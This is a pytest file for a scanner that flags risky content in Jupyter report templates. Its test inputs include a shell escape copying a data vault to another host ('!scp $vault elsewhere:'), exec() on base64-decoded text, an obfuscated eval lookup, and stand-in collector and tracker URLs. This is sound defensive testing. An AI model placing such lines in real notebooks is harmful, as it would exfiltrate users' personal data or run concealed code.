"""Static scans of template notebooks: one fixture template per behaviour, each finding placed.

Fixtures in tests/data/templates/<behaviour>/ are named after what they trigger;
`clean` and the curated templates must trigger nothing at all.
"""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from selfdata.reports.manifest import load_template, read_notebook, template_folders
from selfdata.templates import scan
from tests.conftest import leave_run_behind

FIXTURES = Path(__file__).parent / "data" / "templates"
STATIC = {
    "outputs": scan.stored_outputs,
    "personal-data": scan.personal_data,
    "api": scan.api_calls,
    "risky": scan.risky_operations,
}
# What each fixture triggers, and nothing else: a scan that fires on the wrong fixture is a defect.
TRIGGERS = {
    "clean": set(),
    "stored-outputs": {"outputs"},
    "embedded-coordinates": {"personal-data"},
    "embedded-iban": {"personal-data"},
    "embedded-email": {"personal-data"},
    "embedded-series": {"personal-data"},
    "reads-internal-table": {"tables"},
    "reads-undeclared-table": {"tables"},
    "reads-files": {"tables"},
    "private-api": {"api"},
    "opens-network": {"risky"},
    "runs-subprocess": {"risky"},
    "shell-escape": {"risky"},
    "writes-outside": {"risky"},
    "eval-tricks": {"risky"},
    "emits-script": set(),
    "remote-resource": set(),
}


# Committed clean like every notebook; a run's leftovers are put back when it is read.
AFTER_A_RUN = {"stored-outputs"}


def fixture(name: str) -> tuple[Any, Any]:
    template = load_template(FIXTURES / name)
    nb = read_notebook(template.notebook)
    return template, leave_run_behind(nb) if name in AFTER_A_RUN else nb


def every_finding(nb: Any, tables: tuple[str, ...]) -> list[scan.Finding]:
    found = [finding for check in STATIC.values() for finding in check(nb)]
    return found + scan.table_reads(nb, tables) + scan.report_resources(nb)


def places(findings: list[scan.Finding]) -> list[tuple[str, str]]:
    return [(f.check, f.where) for f in findings]


def notebook(*sources: str) -> Any:
    """A notebook from cell sources; "md:" starts a markdown cell."""
    nb = new_notebook()
    nb.cells = [
        new_markdown_cell(s[3:]) if s.startswith("md:") else new_code_cell(s) for s in sources
    ]
    return nb


def executed(nb: Any, cell: int, data: dict[str, Any]) -> Any:
    """`nb` as a run leaves it: `cell` (from 1) displayed `data`."""
    ran = copy.deepcopy(nb)
    ran.cells[cell - 1].outputs = [new_output("display_data", data=data)]
    ran.cells[cell - 1].execution_count = 1
    return ran


# --- fixtures and curated templates --------------------------------------------------------


def test_every_fixture_is_a_valid_template_named_after_its_behaviour():
    assert sorted(p.name for p in template_folders(FIXTURES)) == sorted(TRIGGERS)


@pytest.mark.parametrize("name", sorted(TRIGGERS))
def test_each_fixture_triggers_only_its_own_check(name):
    template, nb = fixture(name)
    assert {f.check for f in every_finding(nb, template.tables)} == TRIGGERS[name]


def test_a_realistic_clean_template_has_no_findings_at_all():
    template, nb = fixture("clean")
    assert every_finding(nb, template.tables) == []
    link = {"text/html": '<p>See <a href="https://x.org">the method</a>.</p>'}
    assert scan.report_resources(executed(nb, 5, link)) == []
    assert [number for number, _ in scan.code_cells(nb)] == [2, 3, 5, 7, 8]


@pytest.mark.parametrize("folder", template_folders(), ids=lambda p: p.name)
def test_curated_templates_have_no_findings(folder):
    template = load_template(folder)
    nb = read_notebook(template.notebook)
    assert every_finding(nb, template.tables) == []


# --- stored outputs ------------------------------------------------------------------------


def test_stored_outputs_names_the_run_metadata_and_the_cell():
    _, nb = fixture("stored-outputs")
    found = scan.stored_outputs(nb)
    assert places(found) == [("outputs", "metadata"), ("outputs", "cell 3")]
    assert "`papermill`" in found[0].message
    assert found[1].message.startswith("cell 3 stores 1 output and an execution count;")
    assert "--clear-output" in found[1].message


def test_attachments_and_timing_metadata_are_stored_outputs_too():
    nb = notebook("md:![x](attachment:x.png)", "x = 1")
    nb.cells[0].attachments = {"x.png": {"image/png": "iVBORw0KGgo="}}
    nb.cells[1].metadata["execution"] = {"iopub.execute_input": "2025-06-01T10:00:00Z"}
    found = scan.stored_outputs(nb)
    assert places(found) == [("outputs", "cell 1"), ("outputs", "cell 2")]
    assert "attached files (x.png)" in found[0].message
    assert "`execution` metadata" in found[1].message


# --- personal data -------------------------------------------------------------------------


def test_embedded_coordinates_are_found_masked_in_code_and_markdown():
    _, nb = fixture("embedded-coordinates")
    found = scan.personal_data(nb)
    assert places(found) == [
        ("personal-data", "cell 3, line 5"),
        ("personal-data", "cell 4, line 1"),
    ]
    assert found[0].message == (
        "the notebook holds coordinates (51.*****, -*.**…); take it out and let the template "
        "read the person's own data from the vault"
    )
    assert "a geo: URI" in found[1].message
    for value in ("51.50135", "0.14189", "51.5014", "0.1419"):
        assert all(value not in f.message for f in found)


def test_embedded_iban_is_found_by_its_check_digits():
    _, nb = fixture("embedded-iban")
    found = scan.personal_data(nb)
    # Line 5 holds the same letters with check digits 00: no IBAN, no finding.
    assert places(found) == [("personal-data", "cell 3, line 6")]
    assert "holds an IBAN (GB8************…);" in found[0].message


def test_embedded_email_is_found_and_example_and_role_addresses_are_not():
    _, nb = fixture("embedded-email")
    found = scan.personal_data(nb)
    assert places(found) == [("personal-data", "cell 1, line 1")]
    assert "holds an e-mail address (jan*.***@*****.…);" in found[0].message


def test_embedded_series_is_found_and_a_counting_list_is_not():
    _, nb = fixture("embedded-series")
    found = scan.personal_data(nb)
    assert places(found) == [("personal-data", "cell 3, line 6")]
    assert "a series of numbers (13 numbers)" in found[0].message


@pytest.mark.parametrize(
    ("source", "kind"),
    [
        ('CALL_ME = "+44 20 7946 0958"', "a phone number"),
        ('point = {"latitudeE7": 515013500, "longitudeE7": -1418900}', "an E7 coordinate"),
        ("home_lat = 51.50135", "a coordinate"),
        ("md:Home: 51°30\u20324.9\u2033N", "coordinates"),
        ("md:| 8012 | 7999 | 10452 | 6230 | 9120 | 7544 |\n"
         "| 11002 | 5400 | 8833 | 9310 | 7021 | 6654 |", "a series of numbers"),
    ],
)  # fmt: skip
def test_other_personal_data_shapes(source, kind):
    found = scan.personal_data(notebook("x = 1", source))
    assert [(f.where, f.message.split(" (")[0]) for f in found] == [
        ("cell 2, line 1", f"the notebook holds {kind}")
    ]


def test_lookalikes_are_not_personal_data():
    nb = notebook(
        "interval = (0.025, 0.975)\nweekdays = list(range(7))\nscores = a@b.values\n"
        "z = 1.96\nGRID = [5, 10, 15, 20, 25, 30, 35, 40, 45, 50, 55, 60]",
        "md:Mail noreply@bank.co.uk, jane@example.com or x@host.test; since 2025-06-01, "
        "2025-06-02 and 2025-06-03.",
    )
    assert scan.personal_data(nb) == []


def test_personal_data_in_the_notebook_metadata():
    nb = notebook("x = 1")
    nb.metadata["authors"] = [{"name": "Jane", "email": "jane.doe@gmail.com"}]
    assert places(scan.personal_data(nb)) == [("personal-data", "metadata")]


# --- tables --------------------------------------------------------------------------------


def test_reading_an_internal_table_is_a_finding():
    template, nb = fixture("reads-internal-table")
    found = scan.table_reads(nb, template.tables)
    assert places(found) == [("tables", "cell 3, line 5")]
    assert found[0].message.startswith("reads rendered_reports, the vault's bookkeeping")


def test_reading_an_undeclared_table_names_it_at_its_line():
    template, nb = fixture("reads-undeclared-table")
    found = scan.table_reads(nb, template.tables)
    assert places(found) == [("tables", "cell 3, line 10")]
    assert found[0].message == (
        "reads trips, which template.toml does not declare; add it to `tables`"
    )
    assert scan.table_reads(nb, [*template.tables, "trips"]) == []


def test_reading_files_and_other_databases_is_a_finding():
    template, nb = fixture("reads-files")
    found = scan.table_reads(nb, template.tables)
    assert places(found) == [("tables", "cell 3, line 5"), ("tables", "cell 3, line 6")]
    assert found[0].message.startswith("calls read_csv(), which reaches files")
    assert found[1].message.startswith("runs ATTACH, which reaches another database")


def tables_read(*sources: str, declared: tuple[str, ...] = ("health_samples",)) -> list[str]:
    return [f"{f.where}: {f.message.split(';')[0]}" for f in scan.table_reads(
        notebook(*sources), declared)]  # fmt: skip


def test_cte_names_are_not_tables_but_a_cte_cannot_hide_one():
    assert tables_read(
        'con.sql("WITH trips AS (SELECT 1 AS n) SELECT * FROM trips")',
        'con.sql("WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 3) '
        'SELECT * FROM t")',
        'con.sql("WITH imports AS (SELECT * FROM imports) SELECT * FROM imports")',
    ) == ["cell 3, line 1: reads imports, which template.toml does not declare"]


def test_table_names_in_fstrings_are_resolved_through_literal_loops_and_assignments():
    assert tables_read(
        'for table in ["health_samples", "trips"]:\n    con.sql(f"SELECT * FROM {table}")',
        'TABLE = "visits"',
        'con.execute(f"SELECT count(*) FROM {TABLE} WHERE day > now() - INTERVAL {n} DAY")',
        'con.sql(f"SELECT * FROM {pick()}")',
    ) == [
        "cell 1, line 2: reads trips, which template.toml does not declare",
        "cell 3, line 1: reads visits, which template.toml does not declare",
        "cell 4, line 1: reads a table named at run time (`pick()`)",
    ]


def test_sql_kept_in_a_variable_is_checked_once_where_it_is_written():
    assert tables_read(
        'QUERY = """\nSELECT *\nFROM schema_migrations\n"""',
        "con.execute(QUERY)",
        "con.execute(build_query())",
    ) == [
        "cell 1, line 3: reads schema_migrations, the vault's bookkeeping, not data",
        "cell 3, line 1: runs SQL built at run time (`build_query()`), which the check cannot read",
    ]


def test_what_sql_reaches_beyond_the_vault():
    assert tables_read(
        "con.execute(\"INSTALL httpfs; COPY health_samples TO 'x.csv'\")",
        "con.sql(\"SELECT * FROM 'export.parquet'\")",
        "con.sql(\"SELECT * FROM query('SELECT 1'), information_schema.tables\")",
        "con.sql(\"SELECT getenv('HOME'), 'https://collector.example/x'\")",
        "con.read_parquet('x.parquet')",
        "con.sql('SELECT * FROM health_samples WHERE')",
    ) == [
        "cell 1, line 1: runs COPY, which copies data to or from files",
        "cell 1, line 1: runs INSTALL, which installs or loads a DuckDB extension",
        "cell 2, line 1: reads the file 'export.parquet' through DuckDB, which reaches files, "
        "the network or other databases",
        "cell 3, line 1: calls query(), which runs SQL built at run time",
        "cell 3, line 1: reads information_schema.tables, which is not a canonical table",
        "cell 4, line 1: calls getenv(), which reads environment variables",
        "cell 4, line 1: names the remote address 'https://collector.example/x'",
        "cell 5, line 1: calls .read_parquet(), which reaches files, the network or other "
        "databases",
        "cell 6, line 1: runs SQL that DuckDB cannot parse (`SELECT * FROM health_samples "
        "WHERE`), so the check cannot see what it reads",
    ]


def test_template_api_sql_helpers_and_query_are_read_too():
    assert tables_read(
        "from selfdata.analytics import query, source_rank_sql",
        'query(con, "SELECT * FROM accounts WHERE account_id = $id", id=1)',
        "con.sql(f\"WITH {source_rank_sql('rendered_reports')} SELECT * FROM source_rank\")",
        "con.table('trips')",
    ) == [
        "cell 2, line 1: reads accounts, which template.toml does not declare",
        "cell 3, line 1: reads rendered_reports, the vault's bookkeeping, not data",
        "cell 4, line 1: reads trips, which template.toml does not declare",
    ]


def test_sql_magics_are_read_too():
    assert tables_read(
        "%%sql\nSELECT *\nFROM trips",
        "x = 1\n%sql SELECT * FROM rendered_reports",
    ) == [
        "cell 1, line 3: reads trips, which template.toml does not declare",
        "cell 2, line 2: reads rendered_reports, the vault's bookkeeping, not data",
    ]


def test_sentences_dataframes_and_other_libraries_are_not_sql():
    assert (
        tables_read(
            "steps = health.daily(con)\ncon.sql('SELECT avg(value) FROM steps')",
            'sd.missing("sleep", "from a watch or a phone")',
            'sd.say("Select a period. Install it.")',
            "df.query('value > 1')\nimport polars as pl\npl.sql('SELECT * FROM frame')",
            "%pip install duckdb",
        )
        == []
    )


# --- the template API ----------------------------------------------------------------------


def test_private_api_and_own_connections_are_findings():
    _, nb = fixture("private-api")
    found = scan.api_calls(nb)
    assert places(found) == [("api", "cell 3, line 3"), ("api", "cell 3, line 5")]
    assert found[0].message.startswith("uses selfdata.ingest.import_paths, which is not part")
    assert found[1].message.startswith("uses duckdb.connect, which opens or uses a DuckDB")
    assert "report.con" in found[1].message


def test_only_the_public_template_api_is_allowed():
    nb = notebook(
        "import duckdb\nimport selfdata\nimport selfdata.reports.notebook as sd\n"
        "from selfdata.analytics import health, spending\n"
        "from selfdata.reports.periods import parse_period\n"
        "report = sd.setup(vault, period, start, end)\n"
        "health.daily(report.con)\nspending.by_category(report.con)\n"
        "con: duckdb.DuckDBPyConnection = report.con\nprint(selfdata.__version__)",
        "sd._open_read_only(vault)",
        "from selfdata.analytics.categories import categorize",
        "selfdata.vault.open_vault(vault, read_only=False)",
        "alias = sd\nalias.open_vault(vault)",
        'import importlib\nimportlib.import_module("selfdata.importers")',
    )
    assert [(f.where, f.message.split(",")[0]) for f in scan.api_calls(nb)] == [
        ("cell 2, line 1", "uses selfdata.reports.notebook._open_read_only"),
        ("cell 3, line 1", "uses selfdata.analytics.categories.categorize"),
        ("cell 4, line 1", "uses selfdata.vault.open_vault"),
        ("cell 5, line 2", "uses selfdata.reports.notebook.open_vault"),
        ("cell 6, line 2", "uses selfdata.importers"),
    ]
    assert "run `selfdata categorize` before the report" in scan.api_calls(nb)[1].message


# --- risky operations ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("opens-network", [("cell 4, line 1", "imports socket, which opens network connections")]),
        (
            "runs-subprocess",
            [
                ("cell 4, line 2", "imports subprocess, which runs other programs"),
                ("cell 4, line 5", "uses os.system, which runs other programs"),
            ],
        ),
        (
            "shell-escape",
            [
                ("cell 4, line 1", "runs the shell command `!scp $vault elsewhere:`"),
                ("cell 5, line 1", "runs shell commands with %%bash"),
            ],
        ),
        (
            "writes-outside",
            [
                ("cell 4, line 1", "imports shutil, which writes, moves or deletes files"),
                ("cell 4, line 4", "opens Path.home() / 'steps.csv' for writing (mode 'w')"),
                ("cell 4, line 7", "calls .write_text(), which writes, moves or deletes files"),
            ],
        ),
        (
            "eval-tricks",
            [
                (
                    "cell 4, line 4",
                    "uses exec() on decoded text (base64.b64decode(payload)), which runs code "
                    "built at run time",
                ),
                ("cell 4, line 5", "calls getattr() with a computed name ('ev' + 'al')"),
                (
                    "cell 4, line 5",
                    "uses __builtins__, which reaches the builtins behind the names",
                ),
            ],
        ),
    ],
)
def test_risky_operations_are_found_where_they_are(name, expected):
    _, nb = fixture(name)
    found = scan.risky_operations(nb)
    assert {f.check for f in found} == {"risky"}
    assert [(f.where, f.message) for f in found] == expected


def test_more_risky_shapes_and_their_harmless_lookalikes():
    nb = notebook(
        "%matplotlib inline\nobj?\ntext = 'a'.replace('a', 'b')\nframe.rename({'a': 'b'})\n"
        "csv = frame.write_csv()\nfrom urllib.parse import quote",
        "%pip install requests",
        "token = os.environ['TOKEN']\nimport os",
        "with open('notes.txt') as f:\n    f.read()\nfrom pathlib import Path\n"
        "Path('x').open('a').write('y')",
        "ip = get_ipython()\nvars()['x'].__class__.__subclasses__()",
        "import pickle\npickle.loads(blob)\nurl = 'https://collector.example/in'",
        "def broken(:\n    pass",
    )
    assert [(f.where, f.message) for f in scan.risky_operations(nb)] == [
        ("cell 2, line 1", "uses the magic %pip, which installs packages from the network"),
        ("cell 3, line 1", "uses os.environ, which reads environment variables, which can hold "
         "secrets"),
        ("cell 4, line 1", "opens 'notes.txt' for reading, outside the vault"),
        ("cell 4, line 4", "opens Path('x') for writing (mode 'a')"),
        ("cell 5, line 1", "uses get_ipython(), which runs IPython magics or shell commands"),
        ("cell 5, line 2", "reaches .__class__, which can get around what the code appears to do"),
        ("cell 5, line 2", "reaches .__subclasses__, which can get around what the code appears "
         "to do"),
        ("cell 6, line 1", "imports pickle, which loads pickled objects, which can run any code"),
        ("cell 6, line 3", "names the address https://collector.example/in, which it may fetch"),
        ("cell 7, line 1", "cell 7 is not valid Python (invalid syntax), so nothing in it can be "
         "checked"),
    ]  # fmt: skip


# --- report resources ----------------------------------------------------------------------


def test_an_executed_template_emitting_a_script_is_a_finding():
    _, nb = fixture("emits-script")
    assert scan.report_resources(nb) == []
    html = '<p>Steps</p><script>document.title = "steps"</script>'
    found = scan.report_resources(executed(nb, 4, {"text/html": html}))
    assert places(found) == [("report-resources", "cell 4, output 1")]
    assert found[0].message.startswith("it emits a <script> element;")


def test_an_executed_template_loading_a_remote_resource_is_a_finding():
    _, nb = fixture("remote-resource")
    found = scan.report_resources(
        executed(nb, 4, {"text/html": '<img src="//tracker.example/pixel.png" alt="">'})
    )
    assert places(found) == [("report-resources", "cell 4, output 1")]
    assert 'loads a remote resource (<img src="//tracker.example/pixel.png"' in found[0].message


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        ({"application/javascript": "alert(1)"}, "carries application/javascript"),
        ({"text/html": '<button onclick="go()">go</button>'}, "an event handler"),
        ({"text/html": '<a href="javascript:go()">go</a>'}, "a javascript: URL"),
        ({"image/svg+xml": "<svg><script>go()</script></svg>"}, "a <script> element"),
        ({"text/html": "<style>@import 'https://x.org/a.css';</style>"}, "a remote resource"),
        ({"text/html": '<iframe srcdoc="x"></iframe>'}, "a <iframe> element"),
        ({"application/vnd.jupyter.widget-view+json": {"model_id": "1"}}, "widget"),
        ({"application/vnd.vegalite.v5+json": {"data": {"url": "https://x.org/d.csv"}}},
         "loads data by URL"),
    ],
)  # fmt: skip
def test_report_resource_shapes(data, problem):
    found = scan.report_resources(executed(notebook("x = 1"), 1, data))
    assert places(found) == [("report-resources", "cell 1, output 1")]
    assert problem in found[0].message


def test_markdown_and_plain_links_in_a_report():
    nb = notebook('md:See [docs](https://x.org) or <a href="https://x.org">here</a>.\n\n'
                  '<img src="https://x.org/p.png">\n![chart](data:image/png;base64,iVBO)\n'
                  '![pixel](https://x.org/pixel.gif)')  # fmt: skip
    found = scan.report_resources(nb)
    assert places(found) == [("report-resources", "cell 1, line 3"), ("report-resources",
                             "cell 1, line 5")]  # fmt: skip
    assert "a remote image (![pixel](https://x.org/pixel.gif))" in found[1].message
    assert scan.report_resources(executed(notebook("x = 1"), 1, {"text/html": "<b>ok</b>"})) == []
